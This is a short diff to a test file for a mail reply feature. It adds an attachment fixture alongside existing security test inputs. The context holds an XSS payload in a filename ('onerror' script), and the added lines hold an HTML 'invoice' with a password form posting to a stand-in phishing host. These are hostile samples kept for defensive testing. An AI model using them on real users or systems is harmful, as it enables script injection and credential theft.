@@ -62,7 +62,12 @@ class TestReplyTour(MailServerCase, HttpCase):
                         '<img src=x onerror="window.xss=3">.pdf',
                         b"%PDF-1.4",
                         "application/pdf",
-                    )
+                    ),
+                    (
+                        "invoice.html",
+                        b"<form action='https://phish.example'>password</form>",
+                        "text/html",
+                    ),
                 ],
             )
         )
